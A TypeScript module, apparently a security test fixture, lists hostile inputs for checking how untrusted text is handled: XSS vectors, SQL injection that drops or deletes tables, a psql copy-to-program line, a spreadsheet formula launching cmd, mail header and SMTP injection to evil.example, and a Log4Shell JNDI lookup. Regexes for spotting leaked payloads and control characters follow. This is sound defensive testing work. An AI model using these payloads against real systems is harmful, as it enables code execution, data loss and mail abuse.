/** What a stranger writes where a text is asked for, by what it is after. */
export const payloads: Readonly<Record<string, string>> = {
  script: '</script><script>alert(1)</script>',
  attribute: '" onmouseover="alert(1)" x=\'',
  picture: '<img src=x onerror=alert(1)>',
  comment: '--><svg/onload=alert(1)><!--',
  link: '[click](javascript:alert(1)) javascript:alert(1)',
  entity: '&lt;script&gt;&#x3c;b&#x3e;&quot;',
  ansi: '\u001b[31mred\u001b[0m\u001b]0;title\u0007',
  bidi: 'left\u202eright\u2066\u200f',
  nul: 'before\0after',
  half: 'half \ud800 and \udc00',
  surrogates: 'pile \u{1f4a9} of bytes',
  icu: "{count, plural, other {# '{' <b>}}",
  unclosed: '{unclosed {{7*7}} ${7*7} #{7*7} %s %n',
  header: 'hello\r\nBcc: everybody@evil.example\r\n\r\nbody',
  encoded: '=?utf-8?B?PHNjcmlwdD4=?=%0d%0aBcc:%20evil@evil.example',
  smtp: 'line\r\n.\r\nQUIT\r\nMAIL FROM:<evil@evil.example>',
  separators: 'one\u2028two\u2029three\u0085four',
  prototype: '__proto__',
  constructed: 'constructor.prototype',
  sql: "'); drop table amends.orders; --",
  quoted: "\"; delete from amends.events where '1'='1",
  copied: "\\.\n\\copy amends.orders to program 'id'",
  sheet: "=cmd|' /C calc'!A0",
  sum: '+1+1;@SUM(1+1)',
  logged: '${jndi:ldap://evil.example/a}\n{"level":"fatal","event":"forged"}',
  json: '"},{"forged":true,"x":"\\u0000',
  combining: `z${'\u0335\u0336\u0337'.repeat(60)}`,
  spaces: '\u00a0\u3000\u200b\ufeff',
  long: 'w'.repeat(4_000),
};

/** Bits of text by which one recognises that a payload took effect, or got out of where it was put. */
export const live = /<script|<img src=x|<svg|<\/script| onmouseover="alert/iu;

/** Characters that steer a terminal, a mail program or the order of letters. */
// eslint-disable-next-line no-control-regex -- They are what is looked for.
export const steering = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e]/u;

/** Those of them that a terminal obeys, and that JSON has no place for. */
// eslint-disable-next-line no-control-regex -- They are what is looked for.
export const steersTerminal = /[\u0000-\u0009\u000b-\u001f]/u;
